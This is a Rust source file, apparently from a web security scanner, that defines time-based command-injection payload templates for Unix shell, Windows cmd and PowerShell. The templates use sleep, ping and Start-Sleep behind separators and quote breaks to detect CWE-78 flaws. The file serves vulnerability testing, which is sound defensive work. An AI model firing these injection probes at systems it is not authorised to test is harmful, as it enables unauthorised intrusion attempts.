// File: command.rs
// SPDX-License-Identifier: MIT OR Apache-2.0
//
// Copyright (c) 2025
// - Volker Schwaberow <volker@schwaberow.de>

use super::payload::{PayloadFamily, PayloadTemplate as T};
use super::Rule;

// `ping -n N` waits N-1 seconds. The constant offset only moves the
// intercept, the slope stays 1.
static FAMILIES: [PayloadFamily; 3] = [
    PayloadFamily {
        name: "Unix shell",
        tech: &["linux", "unix"],
        whole_seconds: false,
        templates: &[
            T::new(";sleep {delay};"),
            T::new("|sleep {delay}"),
            T::new("$(sleep {delay})"),
            T::new("&&sleep {delay}&&"),
            T::new("`sleep {delay}`"),
            T::new("';sleep {delay};'"),
            T::new("\";sleep {delay};\""),
            T::new("\nsleep {delay}\n"),
        ],
    },
    PayloadFamily {
        name: "Windows cmd",
        tech: &["windows"],
        whole_seconds: true,
        templates: &[
            T::new("&ping -n {delay} 127.0.0.1&"),
            T::new("|ping -n {delay} 127.0.0.1"),
            T::new("\"&ping -n {delay} 127.0.0.1&\""),
        ],
    },
    PayloadFamily {
        name: "PowerShell",
        tech: &["windows", "powershell"],
        whole_seconds: false,
        templates: &[
            T::new(";Start-Sleep -Milliseconds {delay_ms};"),
            T::new("';Start-Sleep -Milliseconds {delay_ms};'"),
            T::new("|Start-Sleep -Milliseconds {delay_ms}"),
        ],
    },
];

pub struct CommandInjectionRule;

impl Rule for CommandInjectionRule {
    fn id(&self) -> &'static str {
        "cmdi"
    }

    fn name(&self) -> &'static str {
        "Command Injection"
    }

    fn cwe(&self) -> u32 {
        78
    }

    fn families(&self) -> &'static [PayloadFamily] {
        &FAMILIES
    }
}
